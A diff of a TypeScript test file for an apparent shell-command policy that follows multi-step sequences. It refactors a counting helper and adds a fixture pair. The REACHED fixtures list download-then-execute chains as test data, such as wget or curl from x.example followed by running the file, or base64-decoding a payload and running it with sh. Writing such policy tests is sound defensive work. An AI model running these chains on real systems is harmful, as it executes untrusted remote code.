@@ -16,8 +16,8 @@ function facts_of(prelude: Prelude): FileFacts {
   return { written: new Map(), secrets_read: [], hosts: [], denied_effects: [], prelude }
 }
 
-/** The verdict, and how often the policy was asked for it. */
-function judged(lines: readonly string[], command: string) {
+/** The verdict behind a prelude, and how often the policy was asked for it. */
+function judged_behind(prelude: Prelude, command: string) {
   let times = 0
   const counted: Policy = {
     ...policy,
@@ -26,8 +26,12 @@ function judged(lines: readonly string[], command: string) {
       return policy.judge(action, facts)
     },
   }
-  const { verdict } = judge_continued(counted, shell(command), facts_of(prelude_of(lines)))
+  const { verdict } = judge_continued(counted, shell(command), facts_of(prelude))
   return { verdict, times }
+}
+
+function judged(lines: readonly string[], command: string) {
+  return judged_behind(prelude_of(lines), command)
 }
 
 const REACHED: readonly (readonly [string, string])[] = [
@@ -40,6 +44,7 @@ const REACHED: readonly (readonly [string, string])[] = [
   ['wget https://x.example/a/install.py', 'python3 install.py'],
   ['wget -P tools https://x.example/a/t', 'tools/t'],
   ['base64 -d p.b64 > q', "sh 'q'"],
+  ['base64 -d p.b64 > 1', 'sh 1'],
   ['gunzip z.sh.gz', 'sh z.sh'],
   ['mv x.txt run.sh', 'sh *.sh'],
   ['mv x.txt run.sh', 'sh "$(ls | tail -1)"'],
@@ -100,16 +105,7 @@ test('what is objected to in the lines themselves is not said of the command beh
 
 test('a prelude without a reach, as one step teaches it, keeps nothing from being judged', () => {
   const { reach: _, ...prelude } = prelude_of(['curl -so x.sh https://x.example/i'])
-  let times = 0
-  const counted: Policy = {
-    ...policy,
-    judge(action, facts) {
-      times++
-      return policy.judge(action, facts)
-    },
-  }
-  judge_continued(counted, shell('npm test'), facts_of(prelude))
-  assert.equal(times, 2)
+  assert.equal(judged_behind(prelude, 'npm test').times, 2)
 })
 
 test('names are those of what lines leave behind, not of their options, hosts and pipes', () => {
